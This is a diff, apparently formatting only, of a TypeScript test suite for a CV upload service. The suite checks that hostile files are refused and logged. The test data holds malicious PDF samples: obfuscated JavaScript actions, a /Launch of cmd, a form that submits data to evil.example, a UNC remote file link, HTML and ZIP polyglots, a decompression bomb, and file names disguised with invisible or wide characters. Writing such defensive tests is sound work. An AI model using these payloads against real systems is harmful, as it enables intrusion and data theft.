@@ -14,14 +14,22 @@ import { eventualMs } from '#tests/support/timeouts.ts'
 const server = await startTestServer()
 
 const eventsOf = async (userId: string) =>
-  (await server.pool.query('select event_type, severity, details from security_events where user_id = $1 order by created_at', [userId])).rows as {
+  (
+    await server.pool.query(
+      'select event_type, severity, details from security_events where user_id = $1 order by created_at',
+      [userId],
+    )
+  ).rows as {
     event_type: string
     severity: string
     details: { reason: string }
   }[]
-const rowsOf = async (ownerId: string) => (await server.pool.query('select * from files where owner_id = $1', [ownerId])).rows
-const gone = (key: string) => vi.waitFor(() => expect(storedKeys(server.config)).not.toContain(key), { timeout: eventualMs, interval: 50 })
-const readAs = (client: Awaited<ReturnType<typeof signedInMember>>['client'], id: string) => client.raw(requestOf(readFile, { id }).path)
+const rowsOf = async (ownerId: string) =>
+  (await server.pool.query('select * from files where owner_id = $1', [ownerId])).rows
+const gone = (key: string) =>
+  vi.waitFor(() => expect(storedKeys(server.config)).not.toContain(key), { timeout: eventualMs, interval: 50 })
+const readAs = (client: Awaited<ReturnType<typeof signedInMember>>['client'], id: string) =>
+  client.raw(requestOf(readFile, { id }).path)
 
 describe('upload', () => {
   it('[FILE-01/pdf] keeps a PDF as it is, and gives it back to its owner as an attachment', async () => {
@@ -29,7 +37,12 @@ describe('upload', () => {
     const cv = pdfWith('(Åsa)')
     const { status, file } = await uploadAs(client, cv, { name: 'CV – Åsa "Öberg" (2026).pdf' })
     expect(status).toBe(200)
-    expect(file).toMatchObject({ kind: 'cv', name: 'CV – Åsa "Öberg" (2026).pdf', type: 'application/pdf', size: cv.length })
+    expect(file).toMatchObject({
+      kind: 'cv',
+      name: 'CV – Åsa "Öberg" (2026).pdf',
+      type: 'application/pdf',
+      size: cv.length,
+    })
     const [row] = await rowsOf(id)
     expect(storedKeys(server.config)).toContain(row.storage_key)
     expect(row.storage_key).not.toContain('sa')
@@ -55,54 +68,251 @@ describe('upload', () => {
 
   it('refuses what names no kind, no name or no file', async () => {
     const { id, client } = await signedInMember(server)
-    expect(await client.call(uploadFile, { kind: 'portrait' as 'cv', name: ' / ' })).toMatchObject({ status: 400, code: 'input.invalid', fields: { kind: 'field.not_in_list', name: 'field.required' } })
-    expect(await uploadAs(client, '')).toMatchObject({ status: 400, code: 'input.invalid', fields: { file: 'field.required' } })
+    expect(await client.call(uploadFile, { kind: 'portrait' as 'cv', name: ' / ' })).toMatchObject({
+      status: 400,
+      code: 'input.invalid',
+      fields: { kind: 'field.not_in_list', name: 'field.required' },
+    })
+    expect(await uploadAs(client, '')).toMatchObject({
+      status: 400,
+      code: 'input.invalid',
+      fields: { file: 'field.required' },
+    })
     expect((await eventsOf(id)).filter((event) => event.event_type === 'file_upload_violation')).toEqual([])
     expect(await rowsOf(id)).toEqual([])
   })
 
   it.each<[string, string, number, string, string, Parameters<typeof uploadAs>[1], Parameters<typeof uploadAs>[2]]>([
-    ['larger than 10 MB', 'file.too_large', 413, 'medium', 'size', Buffer.concat([pdfWith(), Buffer.alloc(fileLimits.size)]), {}],
-    ['of a type that is not taken', 'file.type_not_allowed', 415, 'high', 'type', '<html></html>', { type: 'text/html' }],
+    [
+      'larger than 10 MB',
+      'file.too_large',
+      413,
+      'medium',
+      'size',
+      Buffer.concat([pdfWith(), Buffer.alloc(fileLimits.size)]),
+      {},
+    ],
+    [
+      'of a type that is not taken',
+      'file.type_not_allowed',
+      415,
+      'high',
+      'type',
+      '<html></html>',
+      { type: 'text/html' },
+    ],
     ['of no type', 'file.type_not_allowed', 415, 'high', 'type', pdfWith(), { type: 'application/octet-stream' }],
     ['named like a program', 'file.suspicious', 400, 'critical', 'name', pdfWith(), { name: 'cv.exe' }],
-    ['named like a program in the middle', 'file.suspicious', 400, 'critical', 'name', pdfWith(), { name: 'cv.JS.pdf' }],
-    ['named like a program in wide letters', 'file.suspicious', 400, 'critical', 'name', pdfWith(), { name: 'cv．ｅｘｅ.pdf' }],
-    ['named like a program with signs nobody sees', 'file.suspicious', 400, 'critical', 'name', pdfWith(), { name: 'cv.e\u200bxe\u202e.pdf' }],
-    ['with the content of an image', 'file.type_not_allowed', 415, 'high', 'content', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), {}],
+    [
+      'named like a program in the middle',
+      'file.suspicious',
+      400,
+      'critical',
+      'name',
+      pdfWith(),
+      { name: 'cv.JS.pdf' },
+    ],
+    [
+      'named like a program in wide letters',
+      'file.suspicious',
+      400,
+      'critical',
+      'name',
+      pdfWith(),
+      { name: 'cv．ｅｘｅ.pdf' },
+    ],
+    [
+      'named like a program with signs nobody sees',
+      'file.suspicious',
+      400,
+      'critical',
+      'name',
+      pdfWith(),
+      { name: 'cv.e\u200bxe\u202e.pdf' },
+    ],
+    [
+      'with the content of an image',
+      'file.type_not_allowed',
+      415,
+      'high',
+      'content',
+      Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
+      {},
+    ],
     ['with the content of a page', 'file.type_not_allowed', 415, 'high', 'content', '<html>%PDF-1.7 %%EOF</html>', {}],
     ['that breaks off', 'file.type_not_allowed', 415, 'high', 'broken', pdfWith().subarray(0, 100), {}],
-    ['that is an archive too', 'file.suspicious', 400, 'critical', 'polyglot', Buffer.concat([pdfWith(), Buffer.from('504b0506000000000000000000000000000000000000', 'hex')]), {}],
-    ['that is a page too', 'file.suspicious', 400, 'critical', 'polyglot', Buffer.concat([pdfWith(), Buffer.from('<script>alert(1)</script>')]), {}],
-    ['that runs a script', 'file.suspicious', 400, 'high', 'active', pdfWith('<< /S /JavaScript /JS (app.alert(1)) >>'), {}],
-    ['that writes so in another way', 'file.suspicious', 400, 'high', 'active', pdfWith('<< /S%\n  %x\r\n/J#61vaScript /JS (app.alert(1)) >>'), {}],
-    ['that hides the script in packed objects', 'file.suspicious', 400, 'high', 'active', pdfWith(packed('5 0 << /S /JavaScript /JS (app.alert(1)) >>')), {}],
-    ['that starts a program', 'file.suspicious', 400, 'high', 'active', pdfWith('<< /Type /Action /S/Launch /F (cmd) >>'), {}],
-    ['that carries other files', 'file.suspicious', 400, 'high', 'active', pdfWith('<< /Names << /EmbeddedFiles 4 0 R >> >>'), {}],
-    ['that names its script in another object', 'file.suspicious', 400, 'high', 'active', pdfWith('<< /S 5 0 R /X 1 >>', '/JavaScript'), {}],
-    ['with many comments before its script', 'file.suspicious', 400, 'high', 'active', pdfWith(`<< /S ${'%\n'.repeat(40)} /JavaScript >>`), {}],
-    ['with a long comment before its script', 'file.suspicious', 400, 'high', 'active', pdfWith(`<< /S %${'x'.repeat(5000)}\n/JavaScript >>`), {}],
-    ['with a script behind a text that does not end', 'file.suspicious', 400, 'high', 'active', pdfWith('(open', '<< /S /JavaScript >>'), {}],
-    ['with a script behind a comment that looks like an object', 'file.suspicious', 400, 'high', 'active', pdfWith('<< % 9 0 obj (\n/S /JavaScript >>'), {}],
-    ['with a form that has a program', 'file.suspicious', 400, 'high', 'active', pdfWith('<< /AcroForm << /XFA 5 0 R >> >>'), {}],
-    ['that sends what is filled in', 'file.suspicious', 400, 'high', 'active', pdfWith('<< /S /SubmitForm /F (https://evil.example) >>'), {}],
-    ['that opens another file', 'file.suspicious', 400, 'high', 'active', pdfWith('<< /S /GoToR /F (\\\\host\\x.pdf) >>'), {}],
+    [
+      'that is an archive too',
+      'file.suspicious',
+      400,
+      'critical',
+      'polyglot',
+      Buffer.concat([pdfWith(), Buffer.from('504b0506000000000000000000000000000000000000', 'hex')]),
+      {},
+    ],
+    [
+      'that is a page too',
+      'file.suspicious',
+      400,
+      'critical',
+      'polyglot',
+      Buffer.concat([pdfWith(), Buffer.from('<script>alert(1)</script>')]),
+      {},
+    ],
+    [
+      'that runs a script',
+      'file.suspicious',
+      400,
+      'high',
+      'active',
+      pdfWith('<< /S /JavaScript /JS (app.alert(1)) >>'),
+      {},
+    ],
+    [
+      'that writes so in another way',
+      'file.suspicious',
+      400,
+      'high',
+      'active',
+      pdfWith('<< /S%\n  %x\r\n/J#61vaScript /JS (app.alert(1)) >>'),
+      {},
+    ],
+    [
+      'that hides the script in packed objects',
+      'file.suspicious',
+      400,
+      'high',
+      'active',
+      pdfWith(packed('5 0 << /S /JavaScript /JS (app.alert(1)) >>')),
+      {},
+    ],
+    [
+      'that starts a program',
+      'file.suspicious',
+      400,
+      'high',
+      'active',
+      pdfWith('<< /Type /Action /S/Launch /F (cmd) >>'),
+      {},
+    ],
+    [
+      'that carries other files',
+      'file.suspicious',
+      400,
+      'high',
+      'active',
+      pdfWith('<< /Names << /EmbeddedFiles 4 0 R >> >>'),
+      {},
+    ],
+    [
+      'that names its script in another object',
+      'file.suspicious',
+      400,
+      'high',
+      'active',
+      pdfWith('<< /S 5 0 R /X 1 >>', '/JavaScript'),
+      {},
+    ],
+    [
+      'with many comments before its script',
+      'file.suspicious',
+      400,
+      'high',
+      'active',
+      pdfWith(`<< /S ${'%\n'.repeat(40)} /JavaScript >>`),
+      {},
+    ],
+    [
+      'with a long comment before its script',
+      'file.suspicious',
+      400,
+      'high',
+      'active',
+      pdfWith(`<< /S %${'x'.repeat(5000)}\n/JavaScript >>`),
+      {},
+    ],
+    [
+      'with a script behind a text that does not end',
+      'file.suspicious',
+      400,
+      'high',
+      'active',
+      pdfWith('(open', '<< /S /JavaScript >>'),
+      {},
+    ],
+    [
+      'with a script behind a comment that looks like an object',
+      'file.suspicious',
+      400,
+      'high',
+      'active',
+      pdfWith('<< % 9 0 obj (\n/S /JavaScript >>'),
+      {},
+    ],
+    [
+      'with a form that has a program',
+      'file.suspicious',
+      400,
+      'high',
+      'active',
+      pdfWith('<< /AcroForm << /XFA 5 0 R >> >>'),
+      {},
+    ],
+    [
+      'that sends what is filled in',
+      'file.suspicious',
+      400,
+      'high',
+      'active',
+      pdfWith('<< /S /SubmitForm /F (https://evil.example) >>'),
+      {},
+    ],
+    [
+      'that opens another file',
+      'file.suspicious',
+      400,
+      'high',
+      'active',
+      pdfWith('<< /S /GoToR /F (\\\\host\\x.pdf) >>'),
+      {},
+    ],
     ['that opens a file in itself', 'file.suspicious', 400, 'high', 'active', pdfWith('<< /S /GoToE >>'), {}],
-    ['that is a page in its first kilobyte', 'file.suspicious', 400, 'critical', 'polyglot', Buffer.concat([Buffer.from('%PDF-1.7\n%<html><script>alert(1)</script>\n'), pdfWith().subarray(9)]), {}],
-    ['that unpacks to far too much', 'file.suspicious', 400, 'critical', 'bomb', pdfWith(packed(`5 0 (x)${' '.repeat(5 * 1024 * 1024)}`)), {}],
-  ])('[FILE-01/ten-mb, FILE-01/other-types, FILE-01/exe, FILE-01/js, FILE-01/content, SHLD-01/file-upload-violation] refuses a file %s: nothing is kept, and it is noted', async (_, code, status, severity, reason, body, wishes) => {
-    const { id, client } = await signedInMember(server)
-    const before = storedKeys(server.config)
-    expect(await uploadAs(client, body, wishes)).toMatchObject({ status, code })
-    expect(await eventsOf(id)).toMatchObject([{ event_type: 'file_upload_violation', severity, details: { reason } }])
-    expect(JSON.stringify(await eventsOf(id))).not.toContain('cv')
-    expect(await rowsOf(id)).toEqual([])
-    expect(storedKeys(server.config)).toEqual(before)
-  })
+    [
+      'that is a page in its first kilobyte',
+      'file.suspicious',
+      400,
+      'critical',
+      'polyglot',
+      Buffer.concat([Buffer.from('%PDF-1.7\n%<html><script>alert(1)</script>\n'), pdfWith().subarray(9)]),
+      {},
+    ],
+    [
+      'that unpacks to far too much',
+      'file.suspicious',
+      400,
+      'critical',
+      'bomb',
+      pdfWith(packed(`5 0 (x)${' '.repeat(5 * 1024 * 1024)}`)),
+      {},
+    ],
+  ])(
+    '[FILE-01/ten-mb, FILE-01/other-types, FILE-01/exe, FILE-01/js, FILE-01/content, SHLD-01/file-upload-violation] refuses a file %s: nothing is kept, and it is noted',
+    async (_, code, status, severity, reason, body, wishes) => {
+      const { id, client } = await signedInMember(server)
+      const before = storedKeys(server.config)
+      expect(await uploadAs(client, body, wishes)).toMatchObject({ status, code })
+      expect(await eventsOf(id)).toMatchObject([{ event_type: 'file_upload_violation', severity, details: { reason } }])
+      expect(JSON.stringify(await eventsOf(id))).not.toContain('cv')
+      expect(await rowsOf(id)).toEqual([])
+      expect(storedKeys(server.config)).toEqual(before)
+    },
+  )
 
   it('refuses an image as a CV without holding it against anyone', async () => {
     const { id, client } = await signedInMember(server)
-    expect(await uploadAs(client, Buffer.from('89504e470d0a1a0a', 'hex'), { type: 'image/png', name: 'me.png' })).toMatchObject({ status: 415, code: 'file.type_not_allowed' })
+    expect(
+      await uploadAs(client, Buffer.from('89504e470d0a1a0a', 'hex'), { type: 'image/png', name: 'me.png' }),
+    ).toMatchObject({ status: 415, code: 'file.type_not_allowed' })
     expect(await eventsOf(id)).toEqual([])
   })
 
@@ -124,7 +334,13 @@ describe('upload', () => {
   it.each([
     ['lists what its writer knows', pdfWith('<< /Title (HTML/CSS/JavaScript, Node/JS, /Launch) >>')],
     ['goes to its first page', pdfWith('<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>')],
-    ['writes of scripts in its texts', pdfWith('<< /Title (a \\) /JavaScript (nested /JS) and /Launch) /Author <2f4a53> % /JS\n >>', packed('5 0 (/JavaScript) (/JS)'))],
+    [
+      'writes of scripts in its texts',
+      pdfWith(
+        '<< /Title (a \\) /JavaScript (nested /JS) and /Launch) /Author <2f4a53> % /JS\n >>',
+        packed('5 0 (/JavaScript) (/JS)'),
+      ),
+    ],
     ['has packed objects and old ends', pdfWith(packed('5 0 << /S /URI /URI (https://example.com) >>'), '(%%EOF)')],
   ])('[FILE-01/pdf] takes a PDF that %s', async (_, cv) => {
     const { client } = await signedInMember(server)
@@ -138,7 +354,11 @@ describe('upload', () => {
     let sent = 0
     const { path } = requestOf(uploadFile, { kind: 'cv', name: 'endless.pdf' })
     const answered = await new Promise<{ status: number; text: string } | 'cut'>((resolve) => {
-      const headers = { 'content-type': 'application/pdf', origin: server.url, cookie: [...client.cookies].map(([name, value]) => `${name}=${value}`).join('; ') }
+      const headers = {
+        'content-type': 'application/pdf',
+        origin: server.url,
+        cookie: [...client.cookies].map(([name, value]) => `${name}=${value}`).join('; '),
+      }
       const call = request(new URL(path, server.url), { method: 'POST', headers }, async (response) => {
         let text = ''
         for await (const part of response) text += part
@@ -166,12 +386,19 @@ describe('upload', () => {
 
   it('is refused to a page of another site', async () => {
     const { id, client } = await signedInMember(server)
-    expect(await uploadAs(client, pdfWith(), { headers: { origin: 'https://elsewhere.example' } })).toMatchObject({ status: 403, code: 'origin.refused' })
+    expect(await uploadAs(client, pdfWith(), { headers: { origin: 'https://elsewhere.example' } })).toMatchObject({
+      status: 403,
+      code: 'origin.refused',
+    })
     expect(await rowsOf(id)).toEqual([])
   })
 
   it('answers 503 and leaves nothing while the storage is out of reach', async () => {
-    const away = await startTestServer({ config: { storageUrl: 's3://key:secret@127.0.0.1:1/nobody' }, jobs: false, cleanUp: onTestFinished })
+    const away = await startTestServer({
+      config: { storageUrl: 's3://key:secret@127.0.0.1:1/nobody' },
+      jobs: false,
+      cleanUp: onTestFinished,
+    })
     const { id, client } = await signedInMember(away)
     const { status, code, headers } = await uploadAs(client)
     expect({ status, code, wait: headers.get('retry-after') }).toEqual({ status: 503, code: 'unavailable', wait: '10' })
@@ -189,7 +416,13 @@ describe('upload', () => {
         return new Promise(() => undefined)
       },
     })
-    const options = { method: 'POST', headers: { 'content-type': 'application/pdf' }, body, duplex: 'half', signal: away.signal }
+    const options = {
+      method: 'POST',
+      headers: { 'content-type': 'application/pdf' },
+      body,
+      duplex: 'half',
+      signal: away.signal,
+    }
     await expect(client.raw(path, options as RequestInit)).rejects.toThrow()
     expect(await rowsOf(id)).toEqual([])
     expect((await uploadAs(client)).status).toBe(200)
@@ -205,7 +438,10 @@ describe('read', () => {
       const { client } = await signedInMember(server, wishes)
       expect(await client.call(readFile, { id: file.id })).toMatchObject({ status: 404, code: 'file.not_found' })
     }
-    expect(await owner.client.call(readFile, { id: randomUUID() })).toMatchObject({ status: 404, code: 'file.not_found' })
+    expect(await owner.client.call(readFile, { id: randomUUID() })).toMatchObject({
+      status: 404,
+      code: 'file.not_found',
+    })
   })
 
   it('says that there is none when the storage has lost it', async () => {
@@ -232,7 +468,10 @@ describe('what nobody needs any more', () => {
     const { id, client } = await signedInMember(server)
     const [used, unused] = [(await uploadAs(client)).file, (await uploadAs(client)).file]
     await server.pool.query('update files set attached_at = now() where id = $1', [used.id])
-    const keys = Object.fromEntries((await rowsOf(id)).map((row) => [row.id, row.storage_key])) as Record<string, string>
+    const keys = Object.fromEntries((await rowsOf(id)).map((row) => [row.id, row.storage_key])) as Record<
+      string,
+      string
+    >
     const storage = await openStorage(server.config)
     const run = (now: number) => sweep.run({ db: server.db, now: () => new Date(now), storage } as never, {}, 'a job')
     await run(Date.now() + 23.9 * 3_600_000)
@@ -248,10 +487,16 @@ describe('what nobody needs any more', () => {
     await uploadAs(client, pdfWith(), { name: 'mine.pdf' })
     const [{ storage_key: key }] = (await rowsOf(id)) as [{ storage_key: string }]
     const area = features.find(({ name }) => name === 'files')
-    expect(await area?.exportFor?.(server.db, id)).toMatchObject({ files: [{ kind: 'cv', name: 'mine.pdf', type: 'application/pdf' }] })
+    expect(await area?.exportFor?.(server.db, id)).toMatchObject({
+      files: [{ kind: 'cv', name: 'mine.pdf', type: 'application/pdf' }],
+    })
     await area?.eraseFor?.(server.db, id)
     expect(await rowsOf(id)).toEqual([])
-    await sweep.run({ db: server.db, now: () => new Date(), storage: await openStorage(server.config) } as never, {}, 'a job')
+    await sweep.run(
+      { db: server.db, now: () => new Date(), storage: await openStorage(server.config) } as never,
+      {},
+      'a job',
+    )
     expect(storedKeys(server.config)).not.toContain(key)
   })
 
@@ -260,7 +505,10 @@ describe('what nobody needs any more', () => {
     const storage = await openStorage(server.config)
     await storage.put('cv/00/left', pdfWith(), 'application/pdf')
     await server.pool.query(`insert into stored_files (storage_key) values ('cv/00/left')`)
-    await server.pool.query(`insert into files (owner_id, kind, name, type, bytes, sha256, storage_key) values ($1, 'cv', 'a', 'b', 1, $2, 'cv/00/left')`, [other.id, Buffer.alloc(32)])
+    await server.pool.query(
+      `insert into files (owner_id, kind, name, type, bytes, sha256, storage_key) values ($1, 'cv', 'a', 'b', 1, $2, 'cv/00/left')`,
+      [other.id, Buffer.alloc(32)],
+    )
     await server.pool.query('delete from users where id = $1', [other.id])
     await sweep.run({ db: server.db, now: () => new Date(), storage } as never, {}, 'a job')
     expect(storedKeys(server.config)).not.toContain('cv/00/left')
